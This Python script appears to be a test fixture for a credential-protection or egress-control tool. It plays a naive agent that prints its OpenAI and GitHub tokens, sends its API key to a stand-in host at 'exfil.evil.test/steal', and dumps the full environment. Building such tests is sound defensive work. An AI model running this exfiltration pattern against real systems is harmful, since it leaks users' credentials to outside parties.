# A Python agent that knows nothing about Faramesh: stdlib urllib only. It reports what it sees
# and calls the servers given on its command line with its OpenAI key as a bearer token.
import os
import subprocess
import sys
import urllib.error
import urllib.request

allowed_tls, evil_tls, allowed_plain, code = sys.argv[1:5]
key = os.environ.get("OPENAI_API_KEY", "")
print("PID", os.getpid(), flush=True)
print("KEY", key, flush=True)
print("GITHUB", os.environ.get("GITHUB_TOKEN", "<unset>"), flush=True)
print("STDIN", sys.stdin.readline().strip(), flush=True)


def call(label, url):
    request = urllib.request.Request(url, headers={"Authorization": "Bearer " + key})
    try:
        with urllib.request.urlopen(request, timeout=30) as r:
            print(label, r.status, r.read().decode().strip(), flush=True)
    except urllib.error.HTTPError as e:
        print(label, e.code, e.read().decode().strip().replace("\n", " "), flush=True)
    except Exception as e:  # noqa: BLE001 - the test reads whatever happened
        print(label, "ERROR", type(e).__name__, str(e).replace("\n", " "), flush=True)


call("ALLOWED", "https://api.allowed.test:%s/v1/models?key=%s" % (allowed_tls, key))
call("PLAIN", "http://api.allowed.test:%s/v1/plain" % allowed_plain)
call("EVIL", "https://exfil.evil.test:%s/steal?key=%s" % (evil_tls, key))
call("DENIED", "https://api.allowed.test:%s/forbidden" % allowed_tls)
for line in subprocess.run(["env"], capture_output=True, text=True, check=True).stdout.splitlines():
    print("GRANDENV", line, flush=True)
sys.exit(int(code))
